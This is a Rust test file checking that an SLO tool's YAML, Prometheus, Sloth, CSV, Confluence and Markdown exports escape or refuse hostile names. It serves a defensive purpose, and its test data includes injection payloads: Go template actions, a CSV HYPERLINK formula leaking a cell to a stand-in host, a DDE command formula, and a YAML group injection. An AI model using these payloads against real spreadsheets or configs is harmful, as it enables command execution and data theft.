//! Hostile names through every export: the
//! names an attacker or a careless colleague can put in a shared link come
//! out of each export either refused, with an error naming the field and
//! what is allowed, or as literal text: never as a template, a formula, a
//! line of YAML or wiki markup of their own.
//!
//! YAML is read back with saphyr (as `import` reads specs). Where Prometheus
//! or Sloth evaluate a value as a Go template, [`go_render`] renders it as
//! Go's `text/template` would. Every expected value below is worked by hand
//! from the rule it tests, not copied from the output.

use nines_core::export::{
    ExportError, Table, dependencies_table, document_confluence, document_markdown, file_stem,
    openslo, policy_document, prometheus_rules, pyrra, sloth, to_confluence, to_csv, to_markdown,
    yaml_quote,
};
use nines_core::production::{BudgetPolicy, ProductionInputs};
use nines_core::scenario::{Report, Scenario, evaluate};
use saphyr::{LoadableYamlNode, Yaml};

const VALUE: &str = "{{ $value }}";
const QUERY: &str = r#"{{ with query "up" }}{{ . }}{{ end }}"#;
const HYPERLINK: &str = r#"=HYPERLINK("http://x/leak?"&A1,"Click")"#;
const CMD: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1)";
const TAB: &str = "\tleading tab";
const IMAGE: &str = "!http://x/track.png!";
const STRIKE: &str = "-strike-";
const CITE: &str = "??cite??";
const WARNING: &str = "(!)";

/// Characters a YAML file cannot carry, each in a service name.
const LINE_BREAKING: [(&str, &str); 4] = [
    ("check\u{2028}out", "U+2028"),
    ("check\u{2029}out", "U+2029"),
    ("check\u{85}out", "U+0085"),
    ("check\u{fffe}out", "U+FFFE"),
];

fn report(json: &str) -> Report {
    let s: Scenario = serde_json::from_str(json).unwrap();
    evaluate(&s, nines_core::budget::STORY_NOW)
}

fn named(service: &str) -> ProductionInputs {
    ProductionInputs {
        service: service.into(),
        ..ProductionInputs::default()
    }
}

fn parse(yaml: &str) -> Vec<Yaml<'_>> {
    Yaml::load_from_str(yaml).unwrap_or_else(|e| panic!("not YAML: {e}\n{yaml}"))
}

fn text<'a>(node: &'a Yaml<'_>) -> &'a str {
    node.as_str()
        .unwrap_or_else(|| panic!("not a string: {node:?}"))
}

/// What Go's `text/template` writes for `text`, for the only two actions an
/// export may leave in a templated field: `{{ "{{" }}`, which writes `{{`,
/// and Sloth's `{{.window}}`, which writes `window`. Go's lexer reads plain
/// text up to the next `{{` and nothing else (`text/template/parse/lex.go`,
/// `lexText`), so any other `{{` is an action that would run: it is
/// returned as the error.
fn go_render(text: &str, window: &str) -> Result<String, String> {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find("{{") {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        if let Some(after) = rest.strip_prefix(r#"{{ "{{" }}"#) {
            out.push_str("{{");
            rest = after;
        } else if let Some(after) = rest.strip_prefix("{{.window}}") {
            out.push_str(window);
            rest = after;
        } else {
            return Err(rest.chars().take(40).collect());
        }
    }
    out.push_str(rest);
    Ok(out)
}

#[test]
fn the_renderer_runs_what_is_not_escaped() {
    assert_eq!(go_render(VALUE, "5m"), Err(VALUE.to_string()));
    assert_eq!(
        go_render(r#"a {{ "{{" }} b }} [{{.window}}]"#, "5m").as_deref(),
        Ok("a {{ b }} [5m]")
    );
}

// ---------------------------------------------------------------------------
// Templates
// ---------------------------------------------------------------------------

/// Prometheus rules for a service named with Go template syntax. The
/// default story's Workbook policy reads five windows (5m, 30m, 1h, 6h and
/// 3d: page 1h/5m and 6h/30m, ticket 3d/6h, SRE Workbook Table 5-8), so the
/// file has three groups: six recording rules (the five windows and the
/// 30-day period), Sloth's seven metadata rules, then three alerting rules.
///
/// Alerting rules' labels and annotations are Go templates; recording
/// rules' labels are not. So each alert's `service` label is written with
/// every `{{` as `{{ "{{" }}`, worked by hand below, and Prometheus renders
/// it back to the name, which the recording rules carry as is, in `service`,
/// `sloth_service` and Sloth's id `<service>-availability`.
#[test]
fn template_syntax_in_the_service_comes_out_literally() {
    let r = report("{}");
    for (service, written) in [
        // Prometheus renders `{{ "{{" }}` as `{{`; ` $value }}` is text.
        (VALUE, r#"{{ "{{" }} $value }}"#),
        // Three `{{`, three escapes; no action is left, no query runs.
        (
            QUERY,
            r#"{{ "{{" }} with query "up" }}{{ "{{" }} . }}{{ "{{" }} end }}"#,
        ),
    ] {
        let yaml = prometheus_rules(&r, &named(service)).unwrap();
        let docs = parse(&yaml);
        assert_eq!(docs.len(), 1);
        let groups = docs[0]["groups"].as_sequence().unwrap();
        assert_eq!(groups.len(), 3, "{yaml}");
        assert_eq!(
            text(&groups[0]["name"]),
            format!("{service}-slo-sli-recordings")
        );
        assert_eq!(
            text(&groups[1]["name"]),
            format!("{service}-slo-meta-recordings")
        );
        let records = groups[0]["rules"].as_sequence().unwrap();
        let meta = groups[1]["rules"].as_sequence().unwrap();
        let alerts = groups[2]["rules"].as_sequence().unwrap();
        assert_eq!(
            (records.len(), meta.len(), alerts.len()),
            (6, 7, 3),
            "{yaml}"
        );
        for record in records.iter().chain(meta) {
            assert_eq!(text(&record["labels"]["service"]), service);
            assert_eq!(text(&record["labels"]["sloth_service"]), service);
            assert_eq!(
                text(&record["labels"]["sloth_id"]),
                format!("{service}-availability")
            );
        }
        for alert in alerts {
            assert_eq!(text(&alert["alert"]), "ErrorBudgetBurn");
            let label = text(&alert["labels"]["service"]);
            assert_eq!(label, written);
            assert_eq!(go_render(label, "").as_deref(), Ok(service));
            for annotation in ["summary", "description"] {
                let value = text(&alert["annotations"][annotation]);
                let rendered = go_render(value, "")
                    .unwrap_or_else(|live| panic!("{annotation} runs {live:?}"));
                if annotation == "summary" {
                    assert!(rendered.starts_with(&format!("{service}: ")), "{rendered}");
                }
            }
        }
        // The first comment after the answer (the default story is not
        // achievable) names the service on its own line.
        assert!(yaml.starts_with("# Not achievable: "), "{yaml}");
        let header = yaml.lines().nth(1).unwrap();
        assert!(header.starts_with(&format!("# Prometheus rules for {service}: ")));
    }
}

/// Sloth executes the SLI queries as templates: a selector's own `{{`
/// (here in a label value) is written as `{{ "{{" }}`, and only Sloth's
/// `{{.window}}` stays an action. Worked by hand for the 5m window.
#[test]
fn template_syntax_in_a_selector_stays_literal_in_sloth() {
    let p = ProductionInputs {
        requests: r#"http_requests_total{service="{{ $value }}"}"#.into(),
        errors: r#"http_requests_total{service="{{ $value }}",code=~"5.."}"#.into(),
        ..ProductionInputs::default()
    };
    let yaml = sloth(&report("{}"), &p).unwrap();
    let docs = parse(&yaml);
    let events = &docs[0]["slos"][0]["sli"]["events"];
    let total = text(&events["total_query"]);
    assert_eq!(
        total,
        r#"sum(rate(http_requests_total{service="{{ "{{" }} $value }}"}[{{.window}}]))"#
    );
    assert_eq!(
        go_render(total, "5m").as_deref(),
        Ok(r#"sum(rate(http_requests_total{service="{{ $value }}"}[5m]))"#)
    );
    assert_eq!(
        go_render(text(&events["error_query"]), "5m").as_deref(),
        Ok(r#"sum(rate(http_requests_total{service="{{ $value }}",code=~"5.."}[5m]))"#)
    );
    // The alert's name and labels are fixed words, no user text.
    let alerting = &docs[0]["slos"][0]["alerting"];
    assert_eq!(text(&alerting["name"]), "ErrorBudgetBurn");
    assert_eq!(text(&alerting["labels"]["category"]), "availability");
}

/// Sloth, Pyrra and OpenSLO put the service into names Sloth and Pyrra
/// label every generated rule with: each export refuses a name outside the
/// tool's own rule, naming the field and the rule.
#[test]
fn names_the_tools_refuse_are_refused_with_the_rule() {
    let r = report("{}");
    let hostile = [
        VALUE, QUERY, HYPERLINK, CMD, SUM, IMAGE, STRIKE, CITE, WARNING,
    ];
    for service in hostile {
        let err = sloth(&r, &named(service)).unwrap_err();
        assert!(
            matches!(
                err,
                ExportError::Invalid {
                    field: "service",
                    ..
                }
            ),
            "{service}: {err}"
        );
        assert!(err.to_string().contains("a Sloth name"), "{err}");
        let err = pyrra(&r, &named(service)).unwrap_err();
        assert!(err.to_string().starts_with("service "), "{err}");
        assert!(err.to_string().contains("an OpenSLO name"), "{err}");
        let err = openslo(&r, &named(service)).unwrap_err();
        assert!(err.to_string().contains("an OpenSLO name"), "{err}");
    }
    // Sloth's rule: `^[A-Za-z0-9][-A-Za-z0-9_.]*[A-Za-z0-9]$`.
    for ok in ["checkout", "check.out_v2-a", "a1"] {
        assert!(sloth(&r, &named(ok)).is_ok(), "{ok}");
    }
    for bad in ["a", "-a", "a-", "a b", "ä1"] {
        assert!(sloth(&r, &named(bad)).is_err(), "{bad}");
    }
}

/// Names that hold no template and no character YAML refuses are kept as
/// they are by the Prometheus rules: YAML-quoted, the same before and
/// after templating.
#[test]
fn spreadsheet_and_wiki_names_are_plain_text_in_the_rules() {
    let r = report("{}");
    for service in [HYPERLINK, CMD, SUM, IMAGE, STRIKE, CITE, WARNING] {
        let yaml = prometheus_rules(&r, &named(service)).unwrap();
        let docs = parse(&yaml);
        let groups = docs[0]["groups"].as_sequence().unwrap();
        assert_eq!(groups.len(), 3, "{yaml}");
        assert_eq!(groups[2]["rules"].as_sequence().unwrap().len(), 3);
        for group in groups {
            for rule in group["rules"].as_sequence().unwrap() {
                let label = text(&rule["labels"]["service"]);
                assert_eq!(label, service);
                assert_eq!(go_render(label, "").as_deref(), Ok(service));
            }
        }
    }
}

// ---------------------------------------------------------------------------
// YAML
// ---------------------------------------------------------------------------

/// A service name with a character YAML reads as a line break (U+2028,
/// U+2029, U+0085 in YAML 1.1 and libyaml, so go-yaml and promtool) or
/// cannot carry at all (U+FFFE), or a tab or line feed, is refused by every
/// export, naming the field, the character and what is allowed.
#[test]
fn line_breaking_characters_in_the_service_are_refused() {
    let r = report("{}");
    let mut cases = LINE_BREAKING.to_vec();
    cases.extend([(TAB, "U+0009"), ("check\nout", "U+000A")]);
    // The issue's injection: the name closes the comment line and starts
    // a group of its own.
    let injection = "x\u{2028}groups:\u{2028}  - name: evil\u{2028}    rules: []";
    cases.push((injection, "U+2028"));
    for (service, code) in cases {
        for err in [
            prometheus_rules(&r, &named(service)).unwrap_err(),
            nines_core::export::check_prometheus_rules(&r, &named(service)).unwrap_err(),
            sloth(&r, &named(service)).unwrap_err(),
            pyrra(&r, &named(service)).unwrap_err(),
        ] {
            assert!(
                matches!(
                    err,
                    ExportError::Invalid {
                        field: "service",
                        ..
                    }
                ),
                "{service:?}: {err}"
            );
            let message = err.to_string();
            assert!(message.starts_with("service \""), "{message}");
            assert!(
                message.contains(&format!("(it contains {code})")),
                "{message}"
            );
            assert!(message.contains("a non-empty name without"), "{message}");
            assert!(message.contains("U+2028 and U+2029"), "{message}");
            assert!(!message.contains(['\n', '\u{2028}', '\u{2029}', '\u{85}', '\u{fffe}']));
        }
        assert!(openslo(&r, &named(service)).is_err());
    }
}

/// The series selectors go into the rules' `expr: |` block scalars as
/// they are: one with a character YAML breaks lines at is refused as the
/// selector it is, and so are the OpenSLO queries.
#[test]
fn line_breaking_characters_in_queries_are_refused() {
    let r = report("{}");
    for (bad, code) in LINE_BREAKING {
        let selector = format!(r#"http_requests_total{{service="{bad}"}}"#);
        let p = ProductionInputs {
            requests: selector.clone(),
            ..ProductionInputs::default()
        };
        let err = prometheus_rules(&r, &p).unwrap_err();
        let ExportError::Selector { field, why } = &err else {
            panic!("{err:?}");
        };
        assert_eq!(*field, "requests");
        assert!(why.contains(&format!("it contains {code}")), "{why}");
        assert!(why.contains("PromQL series selector"), "{why}");
        assert!(sloth(&r, &p).is_err());
        let err = openslo(&r, &p).unwrap_err();
        let ExportError::Selector { field, why } = &err else {
            panic!("{err:?}");
        };
        assert_eq!(*field, "requests");
        assert!(why.contains(&format!("it contains {code}")), "{why}");
    }
}

/// Every character the exports refuse can still be written by `yaml_quote`
/// (for text that is not checked), and saphyr reads each back unchanged:
/// the escapes are YAML's own (`\L`, `\P`, `\N`, `\uXXXX`, `\UXXXXXXXX`).
#[test]
fn yaml_quote_round_trips_what_yaml_cannot_carry_raw() {
    let hostile =
        "a\u{2028}b\u{2029}c\u{85}d\u{fffe}e\u{ffff}f\u{1fffe}g\u{feff}h\u{202e}i\t\0j\"\\";
    let yaml = format!("key: {}\n", yaml_quote(hostile));
    assert!(yaml.is_ascii(), "{yaml}");
    let docs = parse(&yaml);
    assert_eq!(text(&docs[0]["key"]), hostile);
}

/// An error quoting a megabyte of name stays one short line.
#[test]
fn errors_quote_a_bounded_value() {
    let r = report("{}");
    let long = format!("{}\u{2028}", "x".repeat(1_000_000));
    let Err(err) = prometheus_rules(&r, &named(&long)) else {
        panic!("a name with U+2028 was accepted");
    };
    let message = err.to_string();
    assert!(message.len() < 1_500, "{}", message.len());
    // 1,000,001 characters, 60 quoted.
    assert!(message.contains("… (999941 more characters)"), "{message}");
    assert!(message.contains("(it contains U+2028)"), "{message}");
}

// ---------------------------------------------------------------------------
// CSV
// ---------------------------------------------------------------------------

/// A small RFC 4180 reader: records end with CRLF; a quoted field may hold
/// commas, CR, LF and doubled quotes.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(record.is_empty() && field.is_empty(), "unterminated record");
    records
}

/// A scenario whose one critical dependency is named `name`.
fn with_dependency(name: &str) -> Report {
    let json = serde_json::json!({
        "dependencies": {"dependencies": [{"Component": {"name": name, "unavailability": 0.001}}]}
    });
    evaluate(
        &serde_json::from_value(json).unwrap(),
        nines_core::budget::STORY_NOW,
    )
}

/// Dependency names from a link, through the CSV export: each that starts
/// with `=`, `+`, `-`, `@`, a tab or CR reads back with a `'` in front
/// (worked by hand: the guard is one character, then RFC 4180 quoting).
#[test]
fn csv_cells_that_would_be_formulas_are_guarded() {
    for (name, cell) in [
        (HYPERLINK, format!("'{HYPERLINK}")),
        (CMD, "'+cmd|' /C calc'!A0".to_string()),
        (SUM, "'@SUM(1)".to_string()),
        (TAB, "'\tleading tab".to_string()),
        (STRIKE, "'-strike-".to_string()),
        ("\r=1+1", "'\r=1+1".to_string()),
        ("-1+2", "'-1+2".to_string()),
        // Not a formula start: as is.
        (IMAGE, IMAGE.to_string()),
        ("a=1", "a=1".to_string()),
    ] {
        let r = with_dependency(name);
        let table = dependencies_table(&r);
        assert_eq!(table.rows[0][0], name, "the name reaches the table");
        let csv = to_csv(&table);
        assert_eq!(read_csv(&csv)[1][0], cell, "{csv}");
    }
    // The raw text for the first: guarded, then quoted (a comma and
    // quotes), its quotes doubled.
    let csv = to_csv(&dependencies_table(&with_dependency(HYPERLINK)));
    assert!(
        csv.contains(r#""'=HYPERLINK(""http://x/leak?""&A1,""Click"")""#),
        "{csv}"
    );
}

/// The report's own negative figures stay numbers a spreadsheet reads;
/// anything else after a `-` is guarded.
#[test]
fn negative_figures_stay_numbers() {
    let table = Table {
        title: String::new(),
        headers: vec!["a".into()],
        rows: [
            "-5",
            "-0.25",
            "-1,250",
            "-12%",
            "-$165,600",
            "-£1.80",
            "-$1.2B",
            "-1,799,986 CHF",
            "-1h 5m",
            "-5 + 1",
            "-A1",
            "-",
        ]
        .iter()
        .map(|c| vec![c.to_string()])
        .collect(),
        warning: None,
    };
    let cells: Vec<String> = read_csv(&to_csv(&table))
        .into_iter()
        .skip(1)
        .map(|r| r[0].clone())
        .collect();
    assert_eq!(
        cells,
        [
            "-5",
            "-0.25",
            "-1,250",
            "-12%",
            "-$165,600",
            "-£1.80",
            "-$1.2B",
            "-1,799,986 CHF",
            "'-1h 5m",
            "'-5 + 1",
            "'-A1",
            "'-",
        ]
    );
}

/// The cost table of a loss-making level, whose net benefit is negative
/// money: no cell of it (nor of any table) is guarded but the ones a
/// spreadsheet would run.
#[test]
fn report_tables_keep_their_figures() {
    let r = report(
        r#"{"cost": {"model": {"reference_nines": 3.0, "reference_cost_per_year": 2000000.0,
            "cost_factor_per_nine": 10.0, "revenue_per_year": 2000.0, "impact_fraction": 0.8}}}"#,
    );
    let mut negative = 0;
    for table in nines_core::export::tables(&r) {
        let read = read_csv(&to_csv(&table));
        for (row, cells) in table.rows.iter().zip(&read[1..]) {
            for (cell, back) in row.iter().zip(cells) {
                if cell.starts_with('-') {
                    negative += 1;
                }
                assert_eq!(back, cell, "{}", table.title);
            }
        }
    }
    assert!(negative > 0, "a negative figure was written");
}

// ---------------------------------------------------------------------------
// Confluence and Markdown
// ---------------------------------------------------------------------------

/// Each hostile dependency name as the Confluence and Markdown tables write
/// its cell, worked by hand: in Confluence a backslash before each of
/// `! [ ] ^ ~ + ? % { } ( ) * _ - | @ #` (a `-` between two ASCII letters
/// or digits excepted); in Markdown before `\ | * _ ` [ ] < ~`.
#[test]
fn markup_in_names_is_escaped() {
    for (name, wiki, markdown) in [
        (IMAGE, r"\!http://x/track.png\!", IMAGE),
        (STRIKE, r"\-strike\-", STRIKE),
        (CITE, r"\?\?cite\?\?", CITE),
        (WARNING, r"\(\!\)", WARNING),
        ("(i) (/) (x)", r"\(i\) \(/\) \(x\)", "(i) (/) (x)"),
        (
            "{{mono}} {macro}",
            r"\{\{mono\}\} \{macro\}",
            "{{mono}} {macro}",
        ),
        (
            "[link|http://x]",
            r"\[link\|http://x\]",
            r"\[link\|http://x\]",
        ),
        ("*b* _e_ +i+", r"\*b\* \_e\_ \+i\+", r"\*b\* \_e\_ +i+"),
        ("^s^ ~t~", r"\^s\^ \~t\~", r"^s^ \~t\~"),
        ("~~strike~~", r"\~\~strike\~\~", r"\~\~strike\~\~"),
        (CMD, r"\+cmd\|' /C calc'\!A0", r"+cmd\|' /C calc'!A0"),
        (SUM, r"\@SUM\(1\)", SUM),
        ("h1. Big", "h1&#46; Big", "h1. Big"),
        ("bq. quote", "bq&#46; quote", "bq. quote"),
        ("# one", r"\# one", "# one"),
        ("Note:P1 :D", "Note&#58;P1 &#58;D", "Note:P1 :D"),
        ("a\\\\b", "a&#92;&#92;b", r"a\\\\b"),
        (
            "Error-budget 2026-11-01",
            "Error-budget 2026-11-01",
            "Error-budget 2026-11-01",
        ),
        ("x -y- z--", r"x \-y\- z\-\-", "x -y- z--"),
    ] {
        let table = dependencies_table(&with_dependency(name));
        // The title, the answer (a dependency unavailable 0.1% of the time
        // spends 200% of a 0.05% budget: not achievable), then the table.
        assert!(table.warning.is_some());
        let line = |out: &str| {
            out.lines()
                .nth(3)
                .unwrap_or_else(|| panic!("{out}"))
                .to_string()
        };
        let confluence = line(&to_confluence(&table));
        assert!(
            confluence.starts_with(&format!("|{wiki}|")),
            "{name}: {confluence}"
        );
        let md = to_markdown(&table);
        let md_row = md.lines().nth(6).unwrap();
        assert!(
            md_row.starts_with(&format!("| {markdown} |")),
            "{name}: {md_row}"
        );
    }
}

/// The policy document: a paragraph the team typed that starts like a
/// block (a heading, a quote, a list) renders as text in both formats.
/// (`- ` is the document's own bullet: a paragraph typed with it becomes a
/// bullet, its text escaped like any other.)
#[test]
fn policy_paragraphs_cannot_start_blocks() {
    let r = report("{}");
    for (typed, wiki, markdown) in [
        ("h1. Override", "h1&#46; Override", "h1. Override"),
        ("bq. Ask", "bq&#46; Ask", "bq. Ask"),
        ("# The CTO", r"\# The CTO", r"\# The CTO"),
        ("* anyone", r"\* anyone", r"\* anyone"),
        ("> quote", "> quote", r"\> quote"),
        ("1. first", "1. first", r"1\. first"),
        ("{toc}", r"\{toc\}", "{toc}"),
        (IMAGE, r"\!http://x/track.png\!", IMAGE),
    ] {
        let policy = BudgetPolicy {
            override_by: typed.into(),
            ..BudgetPolicy::default()
        };
        let doc = policy_document(&r, &policy, "checkout");
        let want = format!("\n\n{wiki}\n\n");
        let out = document_confluence(&doc);
        assert!(out.contains(&want), "{typed}: {out}");
        let want = format!("\n\n{markdown}\n\n");
        let out = document_markdown(&doc);
        assert!(out.contains(&want), "{typed}: {out}");
    }
    // The document's own bold stays bold; the title keeps its hyphen.
    let out = document_confluence(&policy_document(&r, &BudgetPolicy::default(), "checkout"));
    assert!(
        out.starts_with("h1. Error-budget policy: checkout\n"),
        "{out}"
    );
    assert!(out.contains("*normal*"), "{out}");
}

// ---------------------------------------------------------------------------
// Download file names
// ---------------------------------------------------------------------------

/// Worked by hand: each run of characters other than ASCII letters,
/// digits, `-`, `_` and `.` is one `-`; `-` and `.` are trimmed from the
/// ends.
#[test]
fn file_stems_from_hostile_names() {
    for (service, stem) in [
        (VALUE, "value"),
        (QUERY, "with-query-up-.-end"),
        (HYPERLINK, "HYPERLINK-http-x-leak-A1-Click"),
        (IMAGE, "http-x-track.png"),
        ("check\u{2028}out", "check-out"),
        (TAB, "leading-tab"),
        (WARNING, "nines"),
        ("..", "nines"),
        ("", "nines"),
        (".hidden", "hidden"),
        ("C:\\Windows\\x", "C-Windows-x"),
    ] {
        assert_eq!(file_stem(service), stem, "{service:?}");
    }
    let long = format!("{}-{}", "a".repeat(63), "b".repeat(10));
    assert_eq!(
        file_stem(&long),
        "a".repeat(63),
        "the cut leaves no '-' at the end"
    );
}
